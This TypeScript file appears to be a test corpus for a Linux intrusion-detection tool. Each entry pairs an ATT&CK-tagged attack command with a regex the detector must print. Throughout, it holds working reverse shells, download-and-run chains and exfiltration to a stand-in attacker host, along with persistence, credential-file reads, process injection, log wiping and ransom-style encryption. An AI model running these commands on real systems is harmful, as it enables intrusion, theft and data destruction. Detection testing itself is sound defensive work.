/**
 * What attackers do on a Linux server once they are in, one thing each. `technique` as in MITRE ATT&CK.
 * Scripts are for bash, as root, in a throw-away root without a way out; 203.0.113.66 is the attacker's, with 4444
 * (types `id` into a shell), 8090 and 8091 (HTTP) and 3333 (says nothing).
 */
export interface Behaviour {
  readonly id: string;
  readonly technique: string;
  /** Commands without which it cannot be done here. */
  readonly needs?: readonly string[];
  /** What is there before; a part of the ordinary work. */
  readonly before?: string;
  /** `web`: by www-data, through a hole in the node application (a script for sh). Otherwise in a session of root's. */
  readonly by?: 'web';
  readonly attack: string;
  /** One edge that has to be told, as it is printed. */
  readonly tells: RegExp;
  /** Why nothing is told: no fault that could be mended without drowning a server in events or an operator in alerts. */
  readonly silent?: string;
}

const SLEEPER = 'sleep 300 </dev/null >/dev/null 2>&1 & echo $! >/tmp/pid';

export const BEHAVIOURS: readonly Behaviour[] = [
  // Getting in
  { id: 'php web shell', technique: 'T1505.003', needs: ['php'], attack: 'exec 3<>/dev/tcp/127.0.0.1/8081; printf "GET /s.php?c=id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\/usr\/bin\/php\S*( \S+)?->proc:\S*:\/usr\/bin\/dash -c/ },
  { id: 'cgi web shell', technique: 'T1505.003', needs: ['busybox'], attack: 'exec 3<>/dev/tcp/127.0.0.1/8082; printf "GET /cgi-bin/x.sh?id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\S+( \S+)?->proc:\S*:\/usr\/bin\/id/ },
  { id: 'command injection into a node application', technique: 'T1190', attack: 'exec 3<>/dev/tcp/127.0.0.1/8083; printf "GET /?cat%%20/etc/hostname;id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\S+ \/srv\/app\/app\.js\S*->proc:\S*:\/usr\/bin\/dash -c/ },
  { id: 'web shell dropped by the web server', technique: 'T1505.003', by: 'web', attack: 'echo x >/srv/www/up/s.php', tells: /->file:CREATE:\/srv\/www\/up\/s\.php$/ },
  { id: 'defacement', technique: 'T1491', attack: 'echo pwned >/srv/www/index.html', tells: /->file:WRITE:\/srv\/www\/index\.html$/ },

  // Shells that call back, or wait
  { id: 'reverse shell of bash', technique: 'T1059.004', by: 'web', attack: "timeout 5 bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3 >&3 2>&3'", tells: /\/bash -c\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of python', technique: 'T1059.006', needs: ['python3'], by: 'web', attack: `timeout 5 python3 -c 'import socket,os,subprocess as p;s=socket.create_connection(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];p.call(["/bin/sh","-i"])'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of perl', technique: 'T1059', needs: ['perl'], attack: `timeout 5 perl -e 'socket(S,2,1,6);connect(S,pack("SnC4x8",2,4444,203,0,113,66));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh","-i")'`, tells: /\/perl -e\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of node', technique: 'T1059.007', attack: `timeout 5 node -e 'const s=require("net").connect(4444,"203.0.113.66",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s)})'`, tells: /\/node -e\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of netcat through a fifo', technique: 'T1059.004', needs: ['nc.openbsd'], attack: "cd /tmp; mkfifo f; timeout 5 sh -c 'sh -i <f 2>&1 | nc.openbsd -N 203.0.113.66 4444 >f'", tells: /\/nc\.openbsd\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of netcat -e', technique: 'T1059.004', needs: ['nc.traditional'], attack: 'timeout 5 nc.traditional -e /bin/sh 203.0.113.66 4444', tells: /\/nc\.traditional\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of socat with a terminal', technique: 'T1059.004', needs: ['socat'], attack: "timeout 5 socat EXEC:'bash -li',pty,stderr,setsid TCP:203.0.113.66:4444", tells: /\/socat\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'reverse shell of php', technique: 'T1059', needs: ['php'], attack: `timeout 5 php -r '$s=fsockopen("203.0.113.66",4444);$p=proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$x);proc_close($p);'`, tells: /\/php\S* -r\S*->host:203\.0\.113\.66:4444$/ },
  { id: 'bind shell', technique: 'T1571', needs: ['socat'], attack: 'timeout 2 socat TCP-LISTEN:4446,bind=127.0.0.1,reuseaddr EXEC:/bin/sh & sleep .3; exec 3<>/dev/tcp/127.0.0.1/4446; echo id >&3; sleep .2; exec 3>&-; wait', tells: /\/socat\S*->listen:127\.0\.0\.1:4446$/ },
  { id: 'new listener', technique: 'T1571', needs: ['python3'], attack: 'timeout 1 python3 -m http.server 9998 --bind 127.0.0.1 >/dev/null 2>&1; true', tells: /->listen:127\.0\.0\.1:9998$/ },
  { id: 'listener of node', technique: 'T1571', attack: `node -e 'require("net").createServer().listen(9997,"127.0.0.1",()=>process.exit())'`, tells: /->listen:127\.0\.0\.1:9997$/ },
  { id: 'terminal for a blind shell', technique: 'T1059.006', needs: ['python3'], attack: `echo exit | python3 -c 'import pty;pty.spawn("/bin/bash")'`, tells: /\/python\S* -c\S*->proc:\S*:\/usr\/bin\/bash/ },

  // Bringing tools
  { id: 'download piped into a shell', technique: 'T1105', needs: ['curl'], by: 'web', attack: 'curl -s http://203.0.113.66:8090/p.sh | sh', tells: /\/curl\S*->host:203\.0\.113\.66:8090$/ },
  { id: 'download, chmod +x, run', technique: 'T1105', needs: ['wget'], attack: 'wget -q -O /tmp/d http://203.0.113.66:8090/p.sh; chmod +x /tmp/d; /tmp/d', tells: /->proc:\S*:\/usr\/bin\/dash \/tmp\/d/ },
  { id: 'download by the shell itself', technique: 'T1105', attack: 'exec 3<>/dev/tcp/203.0.113.66/8090; printf "GET /p.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 >/tmp/e; chmod +x /tmp/e; /tmp/e', tells: /->proc:\S*:\/usr\/bin\/dash \/tmp\/e/ },
  { id: 'script hidden in base64', technique: 'T1140', attack: 'echo aWQ7dW5hbWUgLWE= | base64 -d | bash', tells: /->proc:\S*:\/usr\/bin\/base64/ },

  // Staying
  { id: 'drop-in of cron', technique: 'T1053.003', before: 'mkdir -p /etc/cron.d', attack: "echo '* * * * * root /bin/true' >/etc/cron.d/sysupd", tells: /->file:CREATE:\/etc\/cron\.d\/sysupd$/ },
  { id: 'crontab of a user', technique: 'T1053.003', needs: ['crontab'], before: 'mkdir -p /var/spool/cron/crontabs; chmod 1730 /var/spool/cron/crontabs', attack: "echo '* * * * * /bin/true' | crontab -", tells: /->file:RENAME:\/var\/spool\/cron\/crontabs\/root$/ },
  { id: 'line in /etc/crontab', technique: 'T1053.003', before: 'touch /etc/crontab', attack: "echo '* * * * * root /bin/true' >>/etc/crontab", tells: /->file:WRITE:\/etc\/crontab$/ },
  { id: 'hourly script of cron', technique: 'T1053.003', before: 'mkdir -p /etc/cron.hourly', attack: "printf '#!/bin/sh\\ntrue\\n' >/etc/cron.hourly/upd; chmod +x /etc/cron.hourly/upd", tells: /->file:CREATE:\/etc\/cron\.hourly\/upd$/ },
  { id: 'job of at', technique: 'T1053.002', needs: ['at'], attack: 'echo /bin/true | at now + 1 hour', tells: /->file:\w+:\/var\/spool\/cron\/atjobs\// },
  { id: 'service of systemd', technique: 'T1543.002', before: 'mkdir -p /etc/systemd/system/multi-user.target.wants', attack: "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/netd.service; ln -s /etc/systemd/system/netd.service /etc/systemd/system/multi-user.target.wants/netd.service", tells: /->file:LINK:\/etc\/systemd\/system\/multi-user\.target\.wants\/netd\.service$/ },
  { id: 'timer of systemd', technique: 'T1053.006', attack: "printf '[Timer]\\nOnCalendar=hourly\\n' >/etc/systemd/system/netd.timer", tells: /->file:CREATE:\/etc\/systemd\/system\/netd\.timer$/ },
  { id: 'drop-in of a known unit', technique: 'T1543.002', attack: "mkdir -p /etc/systemd/system/ssh.service.d; printf '[Service]\\nExecStartPre=/bin/true\\n' >/etc/systemd/system/ssh.service.d/override.conf", tells: /->file:CREATE:\/etc\/systemd\/system\/ssh\.service\.d\/override\.conf$/ },
  { id: 'generator of systemd', technique: 'T1543.002', attack: "mkdir -p /etc/systemd/system-generators; printf '#!/bin/sh\\n' >/etc/systemd/system-generators/g; chmod 755 /etc/systemd/system-generators/g", tells: /->file:CREATE:\/etc\/systemd\/system-generators\/g$/ },
  { id: 'authorized key', technique: 'T1098.004', before: 'mkdir -p -m 700 /root/.ssh; touch /root/.ssh/authorized_keys', attack: "echo 'ssh-ed25519 AAAAC3Nz attacker' >>/root/.ssh/authorized_keys", tells: /->file:WRITE:\/root\/\.ssh\/authorized_keys$/ },
  { id: 'second root in /etc/passwd', technique: 'T1136.001', attack: "echo 'toor::0:0::/root:/bin/bash' >>/etc/passwd", tells: /->file:WRITE:\/etc\/passwd$/ },
  { id: 'new account', technique: 'T1136.001', needs: ['useradd'], attack: 'useradd -m -s /bin/bash svc_backup', tells: /\/useradd\S*->file:RENAME:\/etc\/passwd$/ },
  { id: 'changed password', technique: 'T1098', needs: ['chpasswd'], attack: "echo 'www-data:x' | chpasswd -c SHA512", tells: /\/chpasswd\S*->file:RENAME:\/etc\/shadow$/ },
  { id: 'drop-in of sudoers', technique: 'T1548.003', before: 'mkdir -p /etc/sudoers.d', attack: "echo 'www-data ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/91-x; chmod 440 /etc/sudoers.d/91-x", tells: /->file:CREATE:\/etc\/sudoers\.d\/91-x$/ },
  { id: 'library preloaded into everything', technique: 'T1574.006', attack: 'cp /lib/x86_64-linux-gnu/libm.so.6 /usr/lib/libx.so; echo /usr/lib/libx.so >/etc/ld.so.preload; /bin/true; rm /etc/ld.so.preload', tells: /->file:CREATE:\/etc\/ld\.so\.preload$/ },
  { id: 'library preloaded into one program', technique: 'T1574.006', attack: 'cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/x.so; LD_PRELOAD=/tmp/x.so /bin/true', tells: /->file:CREATE:\/tmp\/x\.so$/ },
  { id: 'setuid copy of a shell', technique: 'T1548.001', attack: 'cp /bin/bash /usr/local/bin/.sh; chmod 4755 /usr/local/bin/.sh', tells: /\/chmod\S*->file:ATTR:\/usr\/local\/bin\/\.sh$/ },
  { id: 'capability on a file', technique: 'T1548.001', needs: ['setcap'], attack: 'cp /usr/bin/perl /usr/local/bin/p; setcap cap_setuid+ep /usr/local/bin/p', tells: /\/setcap\S*->file:ATTR:\/usr\/local\/bin\/p$/ },
  { id: 'module and configuration of PAM', technique: 'T1556.003', before: 'mkdir -p /etc/pam.d; touch /etc/pam.d/common-auth', attack: "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth", tells: /->file:RENAME:\/etc\/pam\.d\/common-auth$/ },
  { id: 'rc.local', technique: 'T1037.004', attack: "printf '#!/bin/sh\\n/bin/true\\n' >/etc/rc.local; chmod +x /etc/rc.local", tells: /->file:CREATE:\/etc\/rc\.local$/ },
  { id: 'start file of a shell', technique: 'T1546.004', before: 'touch /root/.bashrc', attack: 'echo true >>/root/.bashrc', tells: /->file:WRITE:\/root\/\.bashrc$/ },
  { id: 'profile of every login', technique: 'T1546.004', attack: 'echo true >/etc/profile.d/x.sh', tells: /->file:CREATE:\/etc\/profile\.d\/x\.sh$/ },
  { id: 'message of the day', technique: 'T1546', before: 'mkdir -p /etc/update-motd.d', attack: "printf '#!/bin/sh\\n' >/etc/update-motd.d/99-x; chmod +x /etc/update-motd.d/99-x", tells: /->file:CREATE:\/etc\/update-motd\.d\/99-x$/ },
  { id: 'rule of udev', technique: 'T1546.017', before: 'mkdir -p /etc/udev/rules.d', attack: `echo 'ACTION=="add", RUN+="/bin/true"' >/etc/udev/rules.d/99-x.rules`, tells: /->file:CREATE:\/etc\/udev\/rules\.d\/99-x\.rules$/ },
  { id: 'hook of git', technique: 'T1546', needs: ['git'], before: 'git init -q /srv/repo; git -C /srv/repo -c user.email=a@b -c user.name=a commit -q --allow-empty -m first', attack: "printf '#!/bin/sh\\nid\\n' >/srv/repo/.git/hooks/pre-commit; chmod +x /srv/repo/.git/hooks/pre-commit; git -C /srv/repo -c user.email=a@b -c user.name=a commit -q --allow-empty -m x", tells: /\/git\S*->proc:\S*:\/usr\/bin\/dash \S*hooks\/pre-commit/ },
  { id: 'hook of apt', technique: 'T1546.016', before: 'mkdir -p /etc/apt/apt.conf.d', attack: `echo 'APT::Update::Pre-Invoke {"/bin/true";};' >/etc/apt/apt.conf.d/99x`, tells: /->file:CREATE:\/etc\/apt\/apt\.conf\.d\/99x$/ },
  { id: 'name redirected in /etc/hosts', technique: 'T1565.001', before: 'touch /etc/hosts', attack: "echo '127.0.0.66 updates.example' >>/etc/hosts", tells: /->file:WRITE:\/etc\/hosts$/ },
  { id: 'program of the system replaced', technique: 'T1554', attack: 'cp /bin/true /usr/bin/w.new; mv -f /usr/bin/w.new /usr/bin/w; w', tells: /->file:RENAME:\/usr\/bin\/w$/ },
  { id: 'weakened sshd', technique: 'T1098', before: 'mkdir -p /etc/ssh; touch /etc/ssh/sshd_config', attack: "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", tells: /->file:RENAME:\/etc\/ssh\/sshd_config$/ },
  { id: 'start file of python', technique: 'T1546.018', before: 'mkdir -p /usr/lib/python3/dist-packages', attack: "echo 'import os' >/usr/lib/python3/dist-packages/zz.pth", tells: /->file:CREATE:\/usr\/lib\/python3\/dist-packages\/zz\.pth$/ },
  { id: 'hook of the network', technique: 'T1546', attack: "mkdir -p /etc/network/if-up.d; printf '#!/bin/sh\\n' >/etc/network/if-up.d/x; chmod +x /etc/network/if-up.d/x", tells: /->file:CREATE:\/etc\/network\/if-up\.d\/x$/ },
  { id: 'certificate authority', technique: 'T1553.004', before: 'mkdir -p /usr/local/share/ca-certificates', attack: 'cp /etc/hostname /usr/local/share/ca-certificates/x.crt', tells: /->file:CREATE:\/usr\/local\/share\/ca-certificates\/x\.crt$/ },

  // Into other processes, past the file system
  { id: 'debugger attached', technique: 'T1055.008', needs: ['gdb'], before: SLEEPER, attack: "gdb -q -p $(cat /tmp/pid) -batch -ex 'info registers rip'", tells: /\/gdb\S*->trace:\/usr\/bin\/sleep$/ },
  { id: 'ptrace by a script', technique: 'T1055.008', needs: ['python3'], before: SLEEPER, attack: `python3 -c 'import ctypes,os;c=ctypes.CDLL(None);p=int(open("/tmp/pid").read());print(c.ptrace(16,p,0,0));os.waitpid(p,0x40000000);c.ptrace(17,p,0,0)'`, tells: /\/python\S* -c\S*->trace:\/usr\/bin\/sleep$/ },
  { id: 'memory of a process through /proc', technique: 'T1055.009', needs: ['python3'], before: SLEEPER, attack: `python3 -c 'p=open("/tmp/pid").read().strip();m=open("/proc/%s/maps"%p).readline().split("-")[0];f=open("/proc/%s/mem"%p,"r+b",0);f.seek(int(m,16));print(f.read(4))'`, tells: /->(?:file:WRITE:\/proc\/.*\/mem|trace:\S+)$/ },
  { id: 'process_vm_writev', technique: 'T1055', needs: ['python3'], before: SLEEPER, attack: `python3 -c '
import ctypes as c
p=int(open("/tmp/pid").read());lib=c.CDLL(None,use_errno=True)
m=[l for l in open("/proc/%d/maps"%p) if "[stack]" in l][0].split("-")[0]
class V(c.Structure): _fields_=[("b",c.c_void_p),("l",c.c_size_t)]
b=c.create_string_buffer(8);r=lib.process_vm_readv(p,c.byref(V(c.addressof(b),8)),1,c.byref(V(int(m,16),8)),1,0);print(r);print(lib.process_vm_writev(p,c.byref(V(c.addressof(b),8)),1,c.byref(V(int(m,16),8)),1,0))'`, tells: /\/python\S* -c\S*->trace:/ },
  { id: 'program from memory, by descriptor', technique: 'T1620', needs: ['python3'], attack: `python3 -c 'import os;f=os.memfd_create("kworker",0);os.write(f,open("/bin/true","rb").read());os.execve(f,["[kworker/0:1]"],{})'`, tells: /->proc:\S*memfd:kworker/ },
  { id: 'program from memory, through /proc', technique: 'T1620', needs: ['python3'], attack: `python3 -c 'import os;f=os.memfd_create("x",0);os.write(f,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%f,["x"])'`, tells: /->proc:\S*memfd:x/ },
  { id: 'program from memory, by perl', technique: 'T1620', needs: ['perl'], attack: `perl -e '$f=syscall(319,$n="z",0);open(O,">&=".$f);open(I,"</bin/true");binmode I;{local $/;print O <I>}$|=1;select O;$|=1;exec{"/proc/$$/fd/$f"}"z"'`, tells: /->(?:proc:\S*memfd:z|kernel:memfd)/ },
  { id: 'module of the kernel', technique: 'T1547.006', needs: ['insmod'], attack: 'head -c 64 /dev/zero >/tmp/x.ko; insmod /tmp/x.ko; true', tells: /->kernel:module/ },
  { id: 'namespaces of one\'s own', technique: 'T1611', by: 'web', attack: 'unshare -Urm id', tells: /->kernel:unshare/ },
  { id: 'into the namespaces of pid 1', technique: 'T1611', attack: 'nsenter -t 1 -m -u -i sh -c id', tells: /->kernel:setns/ },
  { id: 'mount that hides files', technique: 'T1564', attack: 'mkdir -p /mnt/x; mount -t tmpfs none /mnt/x; echo hidden >/mnt/x/f; umount /mnt/x', tells: /->kernel:mount:\/mnt\/x$/ },
  { id: 'bind mount over a directory', technique: 'T1564', before: 'mkdir -p /srv/empty /srv/hide', attack: 'mount --bind /srv/empty /srv/hide; umount /srv/hide', tells: /->kernel:mount:\/srv\/hide$/ },
  { id: 'io_uring', technique: 'T1562', needs: ['perl'], attack: `perl -e '$p="\\0"x120; syscall(425, 4, $p)'; true`, tells: /->kernel:io_uring/ },
  { id: 'setuid program that becomes root', technique: 'T1548', needs: ['gcc'], before: `printf '#include <unistd.h>\\nint main(void){if(setuid(0))return 1;execl("/usr/bin/id","id",(char*)0);return 1;}\\n' >/tmp/r.c; gcc -o /usr/local/bin/rootme /tmp/r.c; chmod 4755 /usr/local/bin/rootme`, by: 'web', attack: '/usr/local/bin/rootme', tells: /->proc:\S*[:/]0:\/usr\/local\/bin\/rootme/ },
  { id: 'setuid shell of a service', technique: 'T1548.001', before: 'cp /bin/bash /usr/local/bin/rootbash; chmod 4755 /usr/local/bin/rootbash', by: 'web', attack: '/usr/local/bin/rootbash -p -c id', tells: /->proc:\S*[:/]0:\/usr\/local\/bin\/rootbash/ },
  { id: 'sudo by a service', technique: 'T1548.003', needs: ['sudo'], before: "mkdir -p /etc/sudoers.d; echo 'www-data ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/90-x; chmod 440 /etc/sudoers.d/90-x", by: 'web', attack: 'sudo -n id', tells: /->proc:\S*:\/usr\/bin\/sudo/ },

  // Hiding
  { id: 'immutable file', technique: 'T1222.002', needs: ['chattr'], attack: 'touch /tmp/imm; chattr +i /tmp/imm; chattr -i /tmp/imm; true', tells: /->proc:\S*:\/usr\/bin\/chattr/ },
  { id: 'time of a file set back', technique: 'T1070.006', before: 'touch /srv/stomp', attack: "touch -d '2020-01-01' /srv/stomp", tells: /->file:(?:ATTR|WRITE):\/srv\/stomp$/ },
  { id: 'emptied logs', technique: 'T1070.002', before: 'touch /var/log/auth.log /var/log/wtmp', attack: ': >/var/log/auth.log; truncate -s0 /var/log/wtmp', tells: /->file:WRITE:\/var\/log\/auth\.log$/ },
  { id: 'shredded log', technique: 'T1070.004', before: 'echo x >/var/log/syslog.1', attack: 'shred -u /var/log/syslog.1', tells: /->file:(?:WRITE|RENAME|DELETE):\/var\/log\// },
  { id: 'history off', technique: 'T1070.003', attack: 'ln -sf /dev/null /root/.bash_history', tells: /->file:\w+:\/root\/\.bash_history$/ },
  { id: 'process that calls itself a kernel thread', technique: 'T1036.004', attack: `cp /bin/sleep /tmp/kworker; bash -c 'exec -a "[kworker/0:1]" /tmp/kworker .1'`, tells: /->proc:\S*:\/tmp\/kworker/ },
  { id: 'program named like a daemon', technique: 'T1036.005', attack: 'cp /bin/sleep /tmp/sshd; /tmp/sshd .1', tells: /->proc:\S*:\/tmp\/sshd/ },
  { id: 'script that renames its process', technique: 'T1036', needs: ['python3'], attack: `python3 -c 'import ctypes,socket;ctypes.CDLL(None).prctl(15,b"cron",0,0,0);socket.create_connection(("203.0.113.66",8090))'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:8090$/ },
  { id: 'hidden directory in memory', technique: 'T1564.001', attack: 'mkdir /dev/shm/.x; cp /bin/sleep /dev/shm/.x/a; /dev/shm/.x/a .1', tells: /->proc:\S*:\/dev\/shm\/\.x\/a/ },
  { id: 'running program deleted', technique: 'T1070.004', attack: 'cp /bin/sleep /tmp/z; /tmp/z .5 & sleep .2; rm /tmp/z; wait', tells: /->file:DELETE:\/tmp\/z$/ },
  { id: 'flushed firewall', technique: 'T1562.004', needs: ['iptables'], attack: 'iptables -F; true', tells: /->proc:\S*:\S*\/(?:iptables|xtables)/ },
  { id: 'rules of audit', technique: 'T1562.012', before: 'mkdir -p /etc/audit/rules.d', attack: "echo '-D' >/etc/audit/rules.d/zz.rules", tells: /->file:CREATE:\/etc\/audit\/rules\.d\/zz\.rules$/ },
  { id: 'names that break parsers', technique: 'T1562', attack: "cp /bin/true '/tmp/a=b'; '/tmp/a=b'; touch '/tmp/x=y z' $'/tmp/\\xff\\xfe' $'/tmp/new\\nline'; /bin/true $'\\xff'", tells: /->file:CREATE:\/tmp\/new%0Aline$/ },
  { id: 'stopped service', technique: 'T1489', needs: ['systemctl'], attack: 'systemctl stop cron; true', tells: /->proc:\S*:\S*(?: \S+)?\/systemctl/ },

  // Secrets
  { id: 'password hashes', technique: 'T1003.008', attack: 'cat /etc/shadow >/dev/null', tells: /\/cat\S*->file:READ:\/etc\/shadow$/ },
  { id: 'password hashes by a script', technique: 'T1003.008', needs: ['python3'], attack: `python3 -c 'open("/etc/shadow").read()'`, tells: /\/python\S* -c\S*->file:READ:\/etc\/shadow$/ },
  { id: 'password hashes by the shell', technique: 'T1003.008', attack: 'mapfile -t lines </etc/shadow', tells: /\/bash\S* -c\S*->file:READ:\/etc\/shadow$/ },
  { id: 'private keys', technique: 'T1552.004', before: 'mkdir -p -m 700 /root/.ssh; echo k >/root/.ssh/id_ed25519', attack: 'cat /root/.ssh/id_ed25519 >/dev/null', tells: /->file:READ:\/root\/\.ssh\/id_ed25519$/ },
  { id: 'secrets of the application and the cloud', technique: 'T1552.001', before: 'mkdir -p /srv/app /root/.aws; echo KEY=1 >/srv/app/.env; echo KEY >/root/.aws/credentials', attack: 'cat /srv/app/.env /root/.aws/credentials >/dev/null', tells: /->file:READ:(?:\/srv\/app\/\.env|\/root\/\.aws\/credentials)$/ },
  { id: 'environment of a process', technique: 'T1003.007', before: SLEEPER, attack: 'cat /proc/$(cat /tmp/pid)/environ >/dev/null', tells: /->file:READ:\/proc\/\d+\/environ$/, silent: 'a rule for what is read in /proc would be one for every ps and top' },

  // Looking around
  { id: 'search for setuid programs', technique: 'T1083', needs: ['find'], attack: 'find /usr/bin -perm -4000 >/dev/null', tells: /->proc:\S*:\/usr\/bin\/find/ },
  { id: 'burst of discovery', technique: 'T1082', by: 'web', attack: 'id; uname -a; whoami; groups; cat /etc/os-release; df -h; mount; env; hostname', tells: /->proc:\S*:\/usr\/bin\/(?:whoami|uname|mount)/ },
  { id: 'packets sniffed', technique: 'T1040', needs: ['tcpdump'], attack: 'timeout 1 tcpdump -Z root -i lo -c1 -w /tmp/c.pcap; true', tells: /->proc:\S*:\/usr\/bin\/tcpdump/ },
  { id: 'packets sniffed by a script', technique: 'T1040', needs: ['perl'], attack: "perl -e 'socket(S,17,3,0x300) || die'", tells: /\/perl -e\S*->listen:packet:\*$/ },
  { id: 'port scan', technique: 'T1046', attack: 'for p in {20..60}; do (exec 3<>/dev/tcp/127.0.0.1/$p); done 2>/dev/null; true', tells: /->host:127\.0\.0\.1:4\d$/ },
  { id: 'socket of docker', technique: 'T1592', needs: ['perl'], before: `perl -e 'socket(S,1,1,0);bind(S,pack("Sa*","1","/run/docker.sock"));listen(S,1);sleep 300' </dev/null >/dev/null 2>&1 &`, attack: `perl -e 'socket(S,1,1,0);connect(S,pack("Sa*","1","/run/docker.sock")) || die'`, tells: /->sock:\/run\/docker\.sock$/ },

  // Out, and on
  { id: 'archive uploaded', technique: 'T1048', needs: ['curl'], attack: 'tar czf /tmp/e.tgz /etc/hostname; curl -s -m2 -T /tmp/e.tgz http://203.0.113.66:8091/', tells: /\/curl\S*->host:203\.0\.113\.66:8091$/ },
  { id: 'data in names of DNS', technique: 'T1048.003', needs: ['perl'], attack: `for i in 1 2 3; do perl -e 'socket(S,2,2,0);send(S,"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4data\\4test\\0\\0\\1\\0\\1",0,pack("SnC4x8",2,53,203,0,113,66))'; done`, tells: /->host:203\.0\.113\.66:53$/ },
  { id: 'beacon of UDP', technique: 'T1041', attack: 'echo x >/dev/udp/203.0.113.66/9999', tells: /->host:203\.0\.113\.66:9999$/ },
  { id: 'beacon of UDP by sendmsg', technique: 'T1041', needs: ['python3'], attack: `python3 -c 'import socket;socket.socket(2,2).sendmsg([b"x"],[],0,("203.0.113.66",9996))'`, tells: /->host:203\.0\.113\.66:9996$/ },
  { id: 'beacon of ICMP', technique: 'T1095', needs: ['ping'], attack: 'ping -c1 -W1 127.0.0.1', tells: /->proc:\S*:\/usr\/bin\/ping/ },
  { id: 'raw socket of a script', technique: 'T1095', needs: ['perl'], attack: "perl -e 'socket(S,2,3,1) || die'", tells: /\/perl -e\S*->listen:raw:1$/ },
  { id: 'packets of UDP by node', technique: 'T1041', attack: `node -e 'const s=require("dgram").createSocket("udp4");s.send("x",9995,"203.0.113.66",()=>s.close())'`, tells: /\/node -e\S*->host:203\.0\.113\.66:9995$/ },
  { id: 'ssh to another host', technique: 'T1021.004', needs: ['ssh', 'sshd'], before: `mkdir -p -m 755 /run/sshd; ssh-keygen -q -t ed25519 -N '' -f /tmp/hk; ssh-keygen -q -t ed25519 -N '' -f /tmp/k; "$(command -v sshd)" -p 2222 -o ListenAddress=127.0.0.1 -h /tmp/hk -o UsePAM=no -o PermitRootLogin=yes -o StrictModes=no -o AuthorizedKeysFile=/tmp/k.pub </dev/null >/dev/null 2>&1`, attack: 'ssh -q -p 2222 -i /tmp/k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@127.0.0.1 id', tells: /\/ssh\S*->host:127\.0\.0\.1:2222$/ },
  { id: 'miner', technique: 'T1496', needs: ['busybox'], attack: `cp $(command -v busybox) /tmp/xmrig; (echo login; sleep .2) | timeout 2 bash -c 'exec -a busybox /tmp/xmrig nc 203.0.113.66 3333' >/dev/null; true`, tells: /->host:203\.0\.113\.66:3333$/ },
  { id: 'files encrypted for ransom', technique: 'T1486', needs: ['openssl'], before: 'mkdir -p /srv/data; for i in 1 2 3 4 5 6; do echo d >/srv/data/$i.txt; done', attack: 'for f in /srv/data/*.txt; do openssl enc -aes-256-cbc -pbkdf2 -k x -in $f -out $f.enc && rm $f; done', tells: /\/openssl\S*->file:CREATE:\/srv\/data\/\d\.txt\.enc$/ },
  { id: 'connect with a padded address', technique: 'T1059', needs: ['python3'], attack: `python3 -c 'import ctypes,socket,struct;l=ctypes.CDLL(None);s=socket.socket();b=struct.pack("<H",2)+struct.pack(">H",8090)+bytes([203,0,113,66])+bytes(92);print(l.connect(s.fileno(),b,100))'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:8090$/ },
  { id: 'TCP fast open', technique: 'T1059', needs: ['python3'], attack: `python3 -c 'import socket;s=socket.socket();print(s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n",0x20000000,("203.0.113.66",8090)))'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:8090$/ },
  { id: 'IPv4 inside IPv6', technique: 'T1059', needs: ['python3'], attack: `python3 -c 'import socket;s=socket.socket(10,1);s.connect(("::ffff:203.0.113.66",8090))'`, tells: /\/python\S* -c\S*->host:\S*203\.0\.113\.66\S*:8090$/ },
];
